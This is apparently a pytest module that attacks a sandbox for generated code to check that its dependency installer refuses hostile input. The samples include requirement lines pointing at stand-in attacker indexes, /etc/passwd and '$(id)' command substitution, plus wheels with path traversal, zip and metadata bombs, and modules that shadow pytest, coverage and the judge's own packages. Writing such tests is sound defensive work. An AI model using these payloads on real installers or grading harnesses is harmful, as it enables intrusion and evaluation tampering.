"""Rows about packages that generated code asks for: lines of requirements, indexes, wheels."""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from functools import partial
from pathlib import Path

import pytest

from attack.stage import MARK, Attack, Stage
from lmac_sandbox import (
    Box,
    DependencyLimits,
    DependencyProvider,
    DependencyRefused,
    ImageMismatch,
    Job,
    Limits,
    PinnedWheel,
    Target,
    parse_requirements,
    target_job,
    target_of,
)
from lmac_sandbox.dependency_image import REPOSITORY
from lmac_sandbox.limits import MIB
from wheel_index import WheelIndex, pin_of, wheel

LINES = (
    "--index-url=http://127.0.0.1:1/simple",
    "--extra-index-url http://attacker/simple",
    "-r /etc/passwd",
    "-c /etc/passwd",
    "-e git+https://attacker/x",
    "--global-option=--run",
    "--config-settings=x",
    "victim @ file:///etc/passwd",
    "victim @ http://attacker/x.whl",
    "/etc/passwd",
    "./victim.whl",
    "victim; import_os",
    "victim[all]",
    "victim --hash=sha256:0",
    "victim==1.0\\",
    "victim==$(id)",
    "victim\x00",
    "victim\u2028--pre",
    "v" * 10_000,
)


@contextmanager
def _provider(
    stage: Stage, limits: DependencyLimits | None = None
) -> Iterator[tuple[WheelIndex, DependencyProvider, Target]]:
    """An index that the attacker owns; nothing that it gives is left on the engine."""
    with stage.take() as box:
        target = target_of(box.run(target_job()))
    before = _images(stage)
    with WheelIndex() as index:
        folder = stage.scratch / "dependencies"
        yield index, DependencyProvider(stage.engine, stage.image_id, folder, limits, index.url), target
    with stage.engine.call("remove what the row loaded") as client:
        for image_id in _images(stage) - before:
            client.images.remove(image_id, force=True)


def _images(stage: Stage) -> set[str]:
    with stage.engine.call("list images") as client:
        return {str(image.id) for image in client.images.list(name=REPOSITORY)}


def _hostile_lines(stage: Stage) -> None:
    """No line becomes an option, an address or a path of pip's, and no index hears of them."""
    for line in LINES:
        with pytest.raises(DependencyRefused) as refused:
            parse_requirements(f"good\n{line}\n".encode())
        assert refused.value.message.startswith("requirements.txt, line 2: "), refused.value.message
        assert refused.value.message.isprintable()
        assert len(refused.value.message) < 300


def _members(names: Mapping[str, str], link: bool = False) -> bytes:
    content = io.BytesIO()
    told = {"METADATA": "Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n", "RECORD": ""}
    told["WHEEL"] = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    with zipfile.ZipFile(content, "w") as archive:
        for name, text in told.items():
            archive.writestr(f"hostile-1.0.dist-info/{name}", text)
        for name, text in names.items():
            info = zipfile.ZipInfo(name)
            info.external_attr = (0o120777 if link else 0o100644) << 16
            archive.writestr(info, text)
    return content.getvalue()


def _metadata_bomb() -> bytes:
    """What pip reads itself, on the host: more than a gigabyte of words about the package."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("hostile-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nTag: py3-none-any\n")
        with archive.open("hostile-1.0.dist-info/METADATA", "w", force_zip64=True) as member:
            member.write(b"Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n\n")
            for _ in range(1100):
                member.write(bytes(MIB))
    return content.getvalue()


def _bomb(lies: bool) -> bytes:
    """300 MB of zeros, written piece by piece: this process must not grow."""
    content = io.BytesIO(_members({}))
    with zipfile.ZipFile(content, "a", zipfile.ZIP_DEFLATED) as archive, archive.open("x.bin", "w") as member:
        for _ in range(300):
            member.write(bytes(MIB))
    size, told = struct.pack("<L", 300 * MIB), struct.pack("<L", 10)
    return content.getvalue().replace(size, told) if lies else content.getvalue()


HOSTILE: Mapping[str, tuple[Callable[[], bytes], str]] = {
    "a path that climbs": (lambda: _members({f"../../../tmp/{MARK}": "x"}), "has no place"),
    "an absolute path": (lambda: _members({f"/tmp/{MARK}": "x"}), "has no place"),
    "a path out of its scheme": (lambda: _members({"x-1.data/purelib/../../y": ""}), "has no place"),
    "a path below a link": (lambda: _members({"x": "/tmp", "x/y": ""}, link=True), "a file and a folder"),
    "the interpreter's own hooks": (lambda: _members({"sitecustomize.py": ""}), "a name of Python's own"),
    "a module of Python's": (lambda: _members({"random.py": ""}), "a name of Python's own"),
    "names that move the cursor": (lambda: _members({"x\x1b[2J.py": ""}), "has no place"),
    "a bomb": (lambda: _bomb(lies=False), "at most 268,435,456"),
    "a bomb that lies": (lambda: _bomb(lies=True), "cannot be unpacked"),
    "members without end": (lambda: _members({f"x/{n}": "" for n in range(20_001)}), "members; at most"),
    "a metadata bomb": (_metadata_bomb, "memory"),
    "no wheel": (lambda: b"#!/bin/sh\ntouch /tmp/" + MARK.encode(), "is invalid"),
}


def _a_hostile_wheel(name: str, stage: Stage) -> None:
    """Refused as a whole, before an engine has any of it."""
    make, told = HOSTILE[name]
    content = make()
    before = _images(stage)
    with _provider(stage) as (index, provider, target):
        pin = pin_of("hostile", content)
        index.files[pin.file] = content
        with pytest.raises(DependencyRefused, match=told) as refused:
            provider.provide([pin], target)

        assert _images(stage) == before
    assert refused.value.message.isprintable()
    assert not list((stage.scratch / "dependencies").glob("partial-*"))


def _a_wheel_without_end(stage: Stage) -> None:
    """Its download ends at the cap, whatever the index goes on to send."""
    with _provider(stage, DependencyLimits(unpacked_bytes=MIB)) as (index, provider, target):
        content = bytes(8 * MIB)
        pin = pin_of("endless", content)
        index.files[pin.file] = content
        with pytest.raises(DependencyRefused, match="a wheel may have 1,048,576 bytes"):
            provider.provide([pin], target)
    assert not list((stage.scratch / "dependencies").glob("partial-*"))


def _a_wheel_that_changes(stage: Stage) -> None:
    """What was pinned is what is used, or nothing is; a damaged cache is not believed either."""
    with _provider(stage) as (index, provider, target):
        pin = index.publish("changing")
        honest = index.files[pin.file]
        for told in ({}, {pin.file: pin.sha256}):
            index.files[pin.file] = wheel("changing", files={"changing.py": "hostile = 1\n"})
            index.digests = dict(told)
            with pytest.raises(ImageMismatch, match="another digest"):
                provider.provide([pin], target)
        index.files[pin.file] = honest
        provider.provide([pin], target)


def _only_sources(stage: Stage) -> None:
    """Nothing is built, so nothing of it runs on the host."""
    ran = Path("/tmp") / MARK
    script = f"open({str(ran)!r}, 'w')\n".encode()
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w:gz") as archive:
        for name in ("setup.py", "pyproject.toml"):
            member = tarfile.TarInfo(f"sources-1.0/{name}")
            member.size = len(script) if name == "setup.py" else 0
            archive.addfile(member, io.BytesIO(script))
    with _provider(stage) as (index, provider, target):
        index.files["sources-1.0.tar.gz"] = content.getvalue()
        with pytest.raises(DependencyRefused, match="sources"):
            provider.resolve(parse_requirements(b"sources\n"), (), target)
    assert not ran.exists()


SHADOWS = ("pytest", "_pytest", "pluggy", "coverage", "lmac_inside", "lmac_subject", "packaging")
SHADOW = f"import os\nprint('SHADOWED', os.getuid(), flush=True)\nopen('/tmp/{MARK}', 'w')\nos._exit(0)\n"


def _packages_named_like_the_judges(stage: Stage) -> None:
    """They are on no path of the runner's or a judge's, and last on that of a session."""
    files = {f"{name}/__init__.py": SHADOW for name in SHADOWS} | {"hostile.pth": "import pytest_shadow"}
    tests = "import coverage\n\ndef test_it(): assert '/dist-packages/' in coverage.__file__\n"
    with _provider(stage) as (index, provider, target):
        image_id = provider.provide([_published(index, files)], target).image_id
        with stage.holding({"test_it.py": tests}), _box(stage, image_id) as box:
            box.snapshot()
            session = box.run(Job.pytest())
            outcomes = [event["outcome"] for event in session.events if event["kind"] == "test"]
            assert outcomes == ["passed"], session.stdout.text()
            assert "SHADOWED" not in session.stdout.text() + session.stderr.text()


def _packages_that_change_themselves(stage: Stage) -> None:
    """The layer is the image's: read-only, root's, and the same in the next box."""
    source = (
        "import os\n"
        "for path in (__file__, os.path.dirname(__file__) + '/new.py', '/opt/new'):\n"
        "    try: open(path, 'w')\n"
        "    except OSError as error: print(error.errno, flush=True)\n"
        "    else: print('ALLOWED', path, flush=True)\n"
    )
    with _provider(stage) as (index, provider, target):
        image_id = provider.provide([_published(index, {"changing.py": source})], target).image_id
        with _box(stage, image_id) as box:
            shown = box.run(Job(("python3", "-c", "import changing"))).stdout.text()
    assert shown.split() == ["30", "30", "30"], shown


def _published(index: WheelIndex, files: Mapping[str, str | bytes]) -> PinnedWheel:
    return index.publish("hostile", files=files)


@contextmanager
def _box(stage: Stage, image_id: str) -> Iterator[Box]:
    box = Box.start(stage.engine, stage.volume, image_id, stage.owner, Limits())
    try:
        yield box
    finally:
        box.remove()


def _wheel_row(name: str) -> Attack:
    act: Callable[[Stage], None] = partial(_a_hostile_wheel, name)
    number = 88 if "bomb" in name or "without end" in name else 87
    return Attack((number,), f"a wheel with {name}", act)


ROWS = (
    Attack((86,), "lines of requirements that are more than names", _hostile_lines),
    *(_wheel_row(name) for name in HOSTILE),
    Attack((88,), "a wheel without end", _a_wheel_without_end),
    Attack((89,), "a wheel that changes", _a_wheel_that_changes),
    Attack((90,), "a package of sources only", _only_sources),
    Attack((91,), "packages named like the judge's", _packages_named_like_the_judges),
    Attack((38, 91), "packages that change themselves", _packages_that_change_themselves),
)
